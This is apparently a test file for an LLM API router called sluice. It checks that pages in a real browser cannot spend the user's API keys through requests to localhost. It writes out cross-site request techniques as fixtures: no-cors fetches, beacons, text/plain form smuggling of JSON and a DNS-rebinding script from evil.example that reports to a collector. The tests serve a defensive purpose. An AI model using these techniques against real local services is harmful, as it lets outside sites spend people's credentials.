"""A web page in a real browser, and the keys of a router on its reader's own machine."""

import json

import pytest

from sluice.browser import Browser, Page
from sluice.client import chat_body, request
from sluice.proc import wait_for

PATH = "/v1/chat/completions"
BODY = json.dumps(chat_body("spend"))

# What a page of any site can send without asking, and what it can ask for.
WAYS = {
    "no-cors, a string": "fetch(url, {method: 'POST', mode: 'no-cors', body})",
    "no-cors, of no type": "fetch(url, {method: 'POST', mode: 'no-cors', body: new Blob([body])})",
    "no-cors, keepalive": "fetch(url, {method: 'POST', mode: 'no-cors', keepalive: true, body})",
    "no-cors, credentials": "fetch(url, {method: 'POST', mode: 'no-cors', credentials: 'include',"
                            " body})",
    "no-cors, no referrer": "fetch(url, {method: 'POST', mode: 'no-cors', body: new Blob([body]),"
                            " referrerPolicy: 'no-referrer'})",
    "cors, a string": "fetch(url, {method: 'POST', body})",
    "cors, json": "fetch(url, {method: 'POST', headers: {'content-type': 'application/json'},"
                  " body})",
    "beacon, a string": "navigator.sendBeacon(url, body)",
    "beacon, of no type": "navigator.sendBeacon(url, new TextEncoder().encode(body))",
    "beacon, json": "navigator.sendBeacon(url, new Blob([body], {type: 'application/json'}))",
    "form": "submit(url, body, 'f1')",
    "form, of no origin": "submit(url, body, 'f2', 'allow-forms')",
    "image": "load('img', models)",
    "script": "load('script', models)",
}

SCRIPT = """
// A text/plain form's body is NAME=VALUE and a line end: both halves of a JSON text.
function submit(url, body, name, sandbox) {
    const at = body.indexOf('spend') + 5;
    const form = `<form method=POST enctype="text/plain" action="${url}"><input></form>`;
    const frame = document.createElement('iframe');
    if (sandbox) {
        frame.sandbox = sandbox + ' allow-scripts';
        frame.srcdoc = form + '<script>const i = document.querySelector("input");' +
            `i.name = ${JSON.stringify(body.slice(0, at))};` +
            `i.value = ${JSON.stringify(body.slice(at))}; i.form.submit()<` + '/script>';
        document.body.append(frame);
        return;
    }
    frame.name = name;
    document.body.append(frame);
    document.body.insertAdjacentHTML('beforeend', form);
    const sent = document.forms[document.forms.length - 1];
    sent.target = name;
    sent.elements[0].name = body.slice(0, at);
    sent.elements[0].value = body.slice(at);
    sent.submit();
}
function load(tag, url) {
    return new Promise(done => {
        const e = document.createElement(tag);
        e.onload = e.onerror = done;
        e.src = url;
        document.body.append(e);
    });
}
const url = 'http://127.0.0.1:ROUTER/v1/chat/completions', body = BODY;
const models = 'http://127.0.0.1:ROUTER/v1/models';
"""


def script_for(router, ways):
    lines = SCRIPT.replace("ROUTER", str(router.port)).replace("BODY", json.dumps(BODY))
    return lines + "".join(
        "Promise.resolve(%s).then(r => tell([%s, r instanceof Response ? r.type : 'done']),"
        " e => tell([%s, 'failed']));\n" % (WAYS[way], json.dumps(way), json.dumps(way))
        for way in ways)


def test_may_not_read_the_private_port(fleet):
    f = fleet(1, 1, with_redis=False, http={"cors": ["*"], "hosts": ["ai.example.com"]})
    port, page = f.router.admin_port, {"Origin": "https://app.example.com"}
    for path in ("/state", "/metrics", "/livez"):
        a = request(port, "GET", path, headers=page)
        assert a.status == 403 and a.headers["x-sluice-error"] == "origin_not_allowed"
        assert not a.all("access-control-allow-origin")
        assert request(port, "GET", path, headers={"Host": "evil.example:1"}).status == 421
        assert request(port, "GET", path, headers={"Host": "ai.example.com"}).status == 200
    assert f.router.chat(headers=page).status == 200


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_spends_no_key(fleet, maker, host):
    """Whatever a page tries, whether its browser calls it another site's or a neighbour's."""
    f = fleet(1, 1, with_redis=False)
    page = maker.add(Page(script_for(f.router, WAYS)))
    maker.add(Browser(maker.folder, f"http://{host}:{page.port}/"))
    told = dict(page.wait_told(len(WAYS)))
    assert set(told) == set(WAYS)
    east = f.region("us-east")

    def judged():
        return f.router.metrics()["sluice_http_refused_total"] + len(east.log())
    wait_for(lambda: judged() >= len(WAYS), what="all of them to be judged")
    assert [a["path"] for a in east.log()] == []
    assert judged() == len(WAYS)
    assert told["cors, json"] == told["cors, a string"] == "failed"
    assert f.router.chat().status == 200


ASK = """
fetch('http://localhost:ROUTER/v1/chat/completions', {method: 'POST', body: BODY, headers: {
    'content-type': 'application/json', authorization: 'Bearer mine', 'x-stainless-lang': 'js'}})
    .then(async r => tell([r.status, await r.json(), r.headers.get('x-sluice-region'),
                           r.headers.get('x-request-id')]), e => tell(['failed', String(e)]));
"""


def test_that_is_listed_may_ask(fleet, maker):
    f = fleet(1, 1, with_redis=False)
    page = maker.add(Page(ASK.replace("ROUTER", str(f.router.port)).replace("BODY", json.dumps(BODY))))
    f.router.write_config(http={"cors": [f"http://127.0.0.1:{page.port}"]})
    f.router.stop()
    assert f.router.launch()
    maker.add(Browser(maker.folder, f"http://127.0.0.1:{page.port}/"))
    [[status, answer, region, request_id]] = page.wait_told()
    assert (status, region) == (200, "us-east") and request_id
    assert answer["choices"][0]["message"]["content"] == "Hello from us-east: spend"
    [attempt] = f.region("us-east").log()
    assert "origin" not in attempt.headers
    maker.add(Browser(maker.folder, f"http://localhost:{page.port}/"))
    assert page.wait_told(2)[1][0] == "failed", "another page of the same server"
    assert f.region("us-east").attempts() == 1


REBOUND = """
const json = {'content-type': 'application/json'};
const list = () => fetch('/v1/models').then(r => r.status);
const ask = () => fetch('/v1/chat/completions', {method: 'POST', headers: json, body: BODY})
    .then(r => r.status);
const told = what => fetch('http://127.0.0.1:COLLECTOR/', {
    method: 'POST', mode: 'no-cors', body: JSON.stringify(what)});
async function attack() {
    for (;;)   // until the name leads to the router
        try { await told([await list(), await ask(), location.hostname]); return; }
        catch { await new Promise(go => setTimeout(go, 20)); }
}
tell('here').then(attack);
"""


def test_whose_name_leads_here_all_of_a_sudden(fleet, maker):
    """DNS rebinding: to its browser the page and the router are one site, and its requests are
    same-origin.  Here the server behind the name changes, and not the address."""
    f = fleet(1, 1, with_redis=False)
    collector = maker.add(Page(""))
    f.router.stop()
    page = Page(REBOUND.replace("COLLECTOR", str(collector.port)).replace("BODY", json.dumps(BODY)),
                f.router.port)
    try:
        maker.add(Browser(maker.folder, f"http://evil.example:{page.port}/", ["evil.example"]))
        page.wait_told()
    finally:
        page.stop()
    assert f.router.launch()
    [[list_status, ask_status, name]] = collector.wait_told()
    assert name == "evil.example"
    assert (list_status, ask_status) == (421, 403)
    assert f.region("us-east").log() == []
